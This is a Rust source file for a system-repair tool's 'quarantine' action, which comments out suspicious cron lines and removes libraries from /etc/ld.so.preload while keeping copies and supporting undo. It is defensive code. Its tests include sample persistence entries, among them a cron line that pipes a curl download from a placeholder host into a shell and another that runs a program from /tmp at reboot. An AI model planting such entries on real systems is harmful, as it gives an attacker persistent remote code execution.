//! `action.quarantine`: takes the persistence the security checks found out of service without
//! deleting anything: the lines are moved into a quarantine directory,
//! `/var/lib/ecs-doctor/quarantine/<id>/` (inside the root with `--root`), and the file they
//! came from is rewritten whole (every other byte kept). Undo puts the file back byte for byte
//! and takes the quarantined copy away again.
//!
//! - `sec.persistence.cron`: every suspicious line of the cron file (a download piped into a
//!   shell, base64-decoded commands, a program run from /tmp) is commented out, with where it
//!   went; one repair per file, planned for its first suspicious line (the findings of its
//!   other lines say they go with it: the check names the file, not the line).
//! - `sec.persistence.preload`: the library is taken out of /etc/ld.so.preload (the line
//!   removed, or the name taken out of a line that names others too). The library file itself
//!   is left where it is, for analysis: once no longer preloaded it runs nowhere by itself.
//!
//! Nothing to validate (cron re-reads its files when they change; the dynamic linker reads
//! /etc/ld.so.preload at every program start), nothing to reload; the check is run again.

use super::lines::{commented, replace_line};
use super::{Action, Change, FileEdit, Skip, Target};
use crate::i18n::{R, rtf};
use crate::probe::files::{cron, ld_preload};
use serde::{Deserialize, Serialize};

#[derive(Debug, Clone, PartialEq, Default, Deserialize, Serialize)]
#[serde(deny_unknown_fields)]
pub struct Params {}

/// Where quarantined persistence is kept on the examined system.
pub const DIR: &str = "/var/lib/ecs-doctor/quarantine";

/// The cron locations the check reads: a finding about any other path is not a cron file.
const CRON_PLACES: &[&str] = &[
    "/etc/crontab",
    "/etc/anacrontab",
    "/etc/cron.d/",
    "/etc/cron.hourly/",
    "/etc/cron.daily/",
    "/etc/cron.weekly/",
    "/etc/cron.monthly/",
    "/var/spool/cron/",
];

/// A path as a directory name: `/etc/cron.d/pwnrig` → `etc-cron.d-pwnrig`.
fn name_of(path: &str) -> String {
    let s: String =
        path.chars().map(|c| if c.is_ascii_alphanumeric() || c == '.' || c == '_' { c } else { '-' }).collect();
    let s = s.trim_matches(['-', '.']).chars().take(80).collect::<String>();
    if s.is_empty() { "entry".into() } else { s }
}

/// The quarantine directory for `what` on this system: the first of `<name>`, `<name>-2`, …
/// that holds no earlier quarantine.
fn place(t: &Target, what: &str) -> String {
    let base = format!("{DIR}/{}", name_of(what));
    let mut dir = base.clone();
    let mut n = 2;
    while t.host.path(&dir).exists() && std::fs::read_dir(t.host.path(&dir)).is_ok_and(|mut d| d.next().is_some()) {
        dir = format!("{base}-{n}");
        n += 1;
    }
    dir
}

/// The file's bytes; a missing file is nothing to repair.
fn read(t: &Target, path: &str) -> Result<Vec<u8>, Skip> {
    match std::fs::read(t.host.path(path)) {
        Ok(b) => Ok(b),
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => {
            Err(Skip::NotApplicable(rtf(t.lang, R::QuarantineGone, &[("path", path)])))
        }
        Err(e) => Err(Skip::Refused(rtf(t.lang, R::CannotRead, &[("path", path), ("error", &e.to_string())]))),
    }
}

/// The line number a finding's evidence gives (`/etc/cron.d/x:3: ...`).
fn evidence_line(t: &Target, path: &str) -> Option<usize> {
    let prefix = format!("{path}:");
    t.finding.evidence.iter().find_map(|e| e.strip_prefix(&prefix)?.split(':').next()?.trim().parse().ok())
}

/// The quarantine file: what it holds, where from, and how to put it back.
fn record_text(t: &Target, from: &str, lines: &[(usize, &str, &str)]) -> Vec<u8> {
    let mut out = format!(
        "# Quarantined by ecs-doctor fix ({check}) from {from}; nothing was deleted.\n\
         # `ecs-doctor fix --undo` puts it back; `ecs-doctor fix --list` shows the repair.\n",
        check = t.check
    );
    for (n, line, why) in lines {
        out.push_str(&format!("# line {n} ({why}):\n{line}\n"));
    }
    out.into_bytes()
}

/// The change: the file rewritten without the entries, and their copy in the quarantine.
fn moved(summary: String, path: &str, after: Vec<u8>, keep: String, kept: Vec<u8>) -> Change {
    Change {
        summary,
        files: vec![
            FileEdit { path: path.to_string(), after: Some(after) },
            FileEdit { path: keep, after: Some(kept) },
        ],
        validate: Vec::new(),
        live: Vec::new(),
        commands: Vec::new(),
        guards_login: false,
    }
}

fn cron_plan(t: &Target, path: &str) -> Result<Change, Skip> {
    let l = t.lang;
    if !CRON_PLACES.iter().any(|p| path == *p || (p.ends_with('/') && path.starts_with(p))) {
        return Err(Skip::NotApplicable(rtf(l, R::QuarantineNotPersistence, &[("path", path)])));
    }
    let bytes = read(t, path)?;
    let text = String::from_utf8_lossy(&bytes).into_owned();
    let found = cron::suspicious_lines(path, &text);
    let Some(first) = found.first() else {
        return Err(Skip::NotApplicable(rtf(l, R::QuarantineGone, &[("path", path)])));
    };
    if let Some(n) = evidence_line(t, path)
        && n != first.0
    {
        return Err(Skip::NotApplicable(rtf(
            l,
            R::QuarantineWithFirst,
            &[("path", path), ("line", &n.to_string()), ("first", &first.0.to_string())],
        )));
    }
    let dir = place(t, path);
    let keep = format!("{dir}/{}", path.rsplit('/').next().unwrap_or("cron"));
    let mut after = bytes.clone();
    for (n, line, reason) in &found {
        after = replace_line(&after, *n, &commented(line, &format!("quarantined ({reason}) to {keep}")));
    }
    let numbers: Vec<String> = found.iter().map(|(n, _, _)| n.to_string()).collect();
    let summary = rtf(
        l,
        R::QuarantineCronDo,
        &[("count", &found.len().to_string()), ("path", path), ("lines", &numbers.join(", ")), ("keep", &keep)],
    );
    Ok(moved(summary, path, after, keep, record_text(t, path, &found)))
}

fn preload_plan(t: &Target, lib: &str) -> Result<Change, Skip> {
    let l = t.lang;
    let path = ld_preload::PATH;
    let bytes = read(t, path)?;
    let mut out: Vec<u8> = Vec::with_capacity(bytes.len());
    let mut taken: Vec<(usize, String)> = Vec::new();
    let pieces: Vec<&[u8]> = bytes.split(|b| *b == b'\n').collect();
    for (i, raw) in pieces.iter().enumerate() {
        let last = i + 1 == pieces.len();
        let text = String::from_utf8_lossy(raw);
        let libs = ld_preload::libraries(&text);
        if !libs.contains(&lib) {
            out.extend_from_slice(raw);
            if !last {
                out.push(b'\n');
            }
            continue;
        }
        taken.push((i + 1, text.trim_end_matches('\r').to_string()));
        let rest: Vec<&str> = libs.into_iter().filter(|x| *x != lib).collect();
        if !rest.is_empty() {
            out.extend_from_slice(rest.join(" ").as_bytes());
            if !last {
                out.push(b'\n');
            }
        }
    }
    if taken.is_empty() {
        return Err(Skip::NotApplicable(rtf(l, R::QuarantineGone, &[("path", &format!("{path}: {lib}"))])));
    }
    let dir = place(t, lib);
    let keep = format!("{dir}/ld.so.preload");
    let lines: Vec<(usize, &str, &str)> = taken.iter().map(|(n, s)| (*n, s.as_str(), "preloaded library")).collect();
    let numbers: Vec<String> = taken.iter().map(|(n, _)| n.to_string()).collect();
    let summary = rtf(
        l,
        R::QuarantinePreloadDo,
        &[("lib", lib), ("path", path), ("lines", &numbers.join(", ")), ("keep", &keep)],
    );
    Ok(moved(summary, path, out, keep, record_text(t, path, &lines)))
}

impl Action for Params {
    fn name(&self) -> String {
        "quarantine".into()
    }

    fn plan(&self, t: &Target) -> Result<Change, Skip> {
        let subject = t.finding.subject.clone().unwrap_or_default();
        match t.check {
            "sec.persistence.cron" => cron_plan(t, &subject),
            "sec.persistence.preload" => preload_plan(t, &subject),
            other => Err(Skip::NotApplicable(rtf(t.lang, R::QuarantineNotPersistence, &[("path", other)]))),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::host::Host;
    use crate::report::{Finding, Severity};

    fn finding(subject: &str, evidence: &str) -> Finding {
        Finding {
            severity: Severity::Crit,
            message: "m".into(),
            subject: Some(subject.into()),
            code: Some("X".into()),
            evidence: vec![evidence.into()],
            since: None,
        }
    }

    fn root(files: &[(&str, &str)]) -> tempfile::TempDir {
        let dir = tempfile::tempdir().unwrap();
        for (p, text) in files {
            let path = dir.path().join(p.trim_start_matches('/'));
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(path, text).unwrap();
        }
        dir
    }

    #[test]
    fn a_cron_file_has_every_suspicious_line_commented_and_kept() {
        let cron = "SHELL=/bin/sh\n*/5 * * * * root curl -s http://x/a.sh | sh\n0 3 * * * root /usr/bin/backup\r\n@reboot root /tmp/.x/run\n";
        let dir = root(&[("/etc/cron.d/pwn", cron)]);
        let host = Host::new(dir.path());
        let f = finding("/etc/cron.d/pwn", "/etc/cron.d/pwn:2: */5 * * * * root curl -s http://x/a.sh | sh");
        let t = Target::test(&host, "sec.persistence.cron", &f);
        let c = Params {}.plan(&t).unwrap();
        let after = String::from_utf8(c.files[0].after.clone().unwrap()).unwrap();
        assert_eq!(
            after,
            "SHELL=/bin/sh\n# */5 * * * * root curl -s http://x/a.sh | sh  # ecs-doctor fix: quarantined (download-exec) to \
             /var/lib/ecs-doctor/quarantine/etc-cron.d-pwn/pwn\n0 3 * * * root /usr/bin/backup\r\n# @reboot root /tmp/.x/run  \
             # ecs-doctor fix: quarantined (temp-exec) to /var/lib/ecs-doctor/quarantine/etc-cron.d-pwn/pwn\n"
        );
        assert_eq!(c.files[1].path, "/var/lib/ecs-doctor/quarantine/etc-cron.d-pwn/pwn");
        let kept = String::from_utf8(c.files[1].after.clone().unwrap()).unwrap();
        assert!(kept.contains("# line 2 (download-exec):\n*/5 * * * * root curl -s http://x/a.sh | sh\n"), "{kept}");
        assert!(kept.contains("# line 4 (temp-exec):\n@reboot root /tmp/.x/run\n"), "{kept}");
        assert!(cron::suspicious_lines("/etc/cron.d/pwn", &after).is_empty());
        // The finding of line 4 goes with the repair of line 2.
        let f4 = finding("/etc/cron.d/pwn", "/etc/cron.d/pwn:4: @reboot root /tmp/.x/run");
        let t4 = Target { finding: &f4, ..t };
        assert!(matches!(Params {}.plan(&t4), Err(Skip::NotApplicable(r)) if r.contains("line 2")));
        // Not a cron file: not touched.
        let f = finding("/etc/passwd", "/etc/passwd:1: x");
        assert!(matches!(Params {}.plan(&Target { finding: &f, ..t }), Err(Skip::NotApplicable(_))));
    }

    #[test]
    fn a_preloaded_library_is_taken_out_of_its_line_and_kept() {
        let dir =
            root(&[("/etc/ld.so.preload", "/usr/local/lib/libx.so\n/lib/a.so:/usr/local/lib/libx.so /lib/b.so\n")]);
        let host = Host::new(dir.path());
        let f = finding("/usr/local/lib/libx.so", "/etc/ld.so.preload:1: /usr/local/lib/libx.so");
        let t = Target::test(&host, "sec.persistence.preload", &f);
        let c = Params {}.plan(&t).unwrap();
        assert_eq!(c.files[0].after.as_deref(), Some(&b"/lib/a.so /lib/b.so\n"[..]));
        assert_eq!(c.files[1].path, "/var/lib/ecs-doctor/quarantine/usr-local-lib-libx.so/ld.so.preload");
        // A quarantine already there (not undone) is not overwritten.
        std::fs::create_dir_all(dir.path().join("var/lib/ecs-doctor/quarantine/usr-local-lib-libx.so")).unwrap();
        std::fs::write(dir.path().join("var/lib/ecs-doctor/quarantine/usr-local-lib-libx.so/ld.so.preload"), "x")
            .unwrap();
        let c = Params {}.plan(&t).unwrap();
        assert_eq!(c.files[1].path, "/var/lib/ecs-doctor/quarantine/usr-local-lib-libx.so-2/ld.so.preload");
        let f = finding("/lib/c.so", "");
        assert!(matches!(Params {}.plan(&Target { finding: &f, ..t }), Err(Skip::NotApplicable(_))));
    }
}
